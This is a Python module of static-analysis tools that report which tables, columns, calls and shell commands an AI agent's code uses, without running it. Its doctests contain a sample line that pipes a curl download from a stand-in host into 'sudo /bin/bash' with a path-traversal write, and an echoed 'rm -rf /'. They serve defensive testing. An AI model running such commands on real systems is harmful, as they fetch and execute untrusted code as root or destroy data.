"""Programs and shell lines that an agent wrote: what they read, call and run, without running them."""

from __future__ import annotations

import functools
import json

from guardagent_toolbox.reading.plain import as_text
from guardagent_toolbox.reading.program import called_names, reads_of_program
from guardagent_toolbox.reading.python import is_dense, parse_python
from guardagent_toolbox.reading.python_facts import facts_of_python
from guardagent_toolbox.reading.schema import UNKNOWN, Schema
from guardagent_toolbox.reading.shell_commands import commands_of
from guardagent_toolbox.spec import tool


@tool(group="code")
def columns_accessed(code: str, schema: dict[str, list[str]]) -> dict[str, list[str]] | None:
    """The columns that Python code reads, by table, without running it; None when the code cannot be read.

    Understands EHRAgent's LoadDB, FilterDB, GetValue and SQLInterpreter, tables kept in variables, lists, loops and
    helper functions, columns by subscript or attribute on tables and rows, and SQL in texts that are put together. A
    table that is loaded without reading a column has an empty list. Rows that are printed, compared or left in `answer`
    count with all columns, as does a column whose name cannot be told. Names that the schema lacks are given as they
    are. What could read anything (a table name that is computed, `eval`, files) stands under the key "?" with its line;
    `check_access` takes that, and None, as missing.

    >>> SCHEMA = {"lab": ["id", "name", "result"], "patient": ["id", "age"]}
    >>> columns_accessed("db = LoadDB('lab')\\nx = GetValue(FilterDB(db, 'name=ph||max(id)'), 'result')", SCHEMA)
    {'lab': ['id', 'name', 'result']}
    >>> columns_accessed("for row in LoadDB('patient'): print(row['age'])", SCHEMA)
    {'patient': ['age']}
    >>> columns_accessed("LoadDB(input())", SCHEMA)["?"]
    ['line 1: `LoadDB` of a table whose name is computed', 'line 1: `input` reads what cannot be seen here']
    """
    tables = Schema.of(schema)
    reads = None if tables is None else reads_of_program(code, tables)
    return None if reads is None else reads.plain()


@tool(group="code")
def tables_accessed(code: str, schema: dict[str, list[str]]) -> list[str] | None:
    """The tables that Python code uses, sorted, "?" among them when it could use any; see `columns_accessed`.

    >>> tables_accessed("SQLInterpreter('select age from patient')", {"patient": ["id", "age"]})
    ['patient']
    """
    tables = Schema.of(schema)
    reads = None if tables is None else reads_of_program(code, tables)
    return None if reads is None else sorted((*reads.tables, *((UNKNOWN,) if reads.unknown else ())))


@tool(group="code")
def called_functions(code: str) -> list[str] | None:
    """The dotted names of what Python code calls, sorted; "?" for a callee without a name. None when unreadable.

    >>> called_functions("import os\\nos.system('ls')\\nprint(f(1)(2))")
    ['?', 'f', 'os.system', 'print']
    """
    tree = parse_python(code)
    return None if tree is None else called_names(tree)


@tool(group="code")
def read_python(code: str) -> dict[str, object] | None:
    """How a Python program is built, as one object; None when it cannot be read. Comments are dropped.

    Dotted names are led back through imports: after `import os as o`, `o.system()` is "os.system"; a part without a
    name is "?". Keys: "imports" ("module", "name" or None, "alias", "line"; "?" for a computed module) · "calls"
    ("name", "arguments" and "keywords" with the values that are written out and None for others, "line") · "names" ·
    "attributes" (dotted) · "writes" (attributes and items that are set: "name", "line") · "texts" (string constants,
    docstrings aside: "text", "line") · "functions" ("name", "line", "lines", "parameters", "docstring", "annotated",
    "decorators", "async") · "classes" ("name", "line", "bases", "docstring") · "handlers" (of exceptions: "types", []
    for a bare one, "silent", "line") · "docstring" (of the module) · "globals".

    >>> read_python("from os import system as run\\nrun('ls -l', shell=True)")["calls"]
    [{'name': 'os.system', 'arguments': ['ls -l'], 'keywords': {'shell': True}, 'line': 2}]
    """
    text = as_text(code)
    found = None if text is None else _python(text)
    # Read anew each time, so that what one caller does to its answer is not seen by the next.
    return None if found is None else dict[str, object](json.loads(found))


# Each clause asks for the same text again; reading a long one takes some milliseconds.
@functools.lru_cache(maxsize=4)
def _python(code: str) -> str | None:
    """The answer of `read_python` as JSON text."""
    tree = None if is_dense(code) else parse_python(code)
    try:
        return None if tree is None else json.dumps(facts_of_python(tree))
    except RecursionError:
        return None


@tool(group="code")
def read_shell(line: str) -> list[dict[str, object]] | None:
    """The commands of a shell line in order, each as an object; None when it cannot be read. Comments are dropped.

    None stands for open quotes or brackets, functions, `case`, `[[`. Commands inside `$(...)`, backticks, `sh -c "…"`,
    `eval` and `find -exec` are in the list, too; words that are only printed or searched for are not. Keys: "name"
    (without folder and behind sudo, env, xargs and the like; "?" when it is computed; "" when there is none) ·
    "wrappers" (such as "sudo") · "words" · "arguments" (words that are no options) · "options" ("-rf" is also "-r" and
    "-f"; of "--force=x" it is "--force") · "texts" (printed or searched for) · "paths" (everything that may name a
    file, with ".." resolved) · "writes" and "reads" (files of redirections) · "assigned" (variables) · "after" (the
    operator before it: "", "|", "&&", "||", ";", "&", line break) · "piped_from" (names before it in the pipeline) ·
    "inside" (name of the command that it is part of, "" at the top) · "substituted" (its output is put into that one) ·
    "substitutions" (number of `$(...)`, backticks, `<(...)` in it) · "computed" (holds variables or patterns).

    >>> found = read_shell("curl -s x.example | sudo /bin/bash > /tmp/../etc/out")
    >>> [c["name"] for c in found], found[1]["wrappers"], found[1]["piped_from"], found[1]["writes"]
    (['curl', 'bash'], ['sudo'], ['curl'], ['/etc/out'])
    >>> [c["name"] for c in read_shell("echo 'rm -rf /' # reboot")], read_shell("echo 'open")
    (['echo'], None)
    """
    text = as_text(line)
    return None if text is None else commands_of(text)
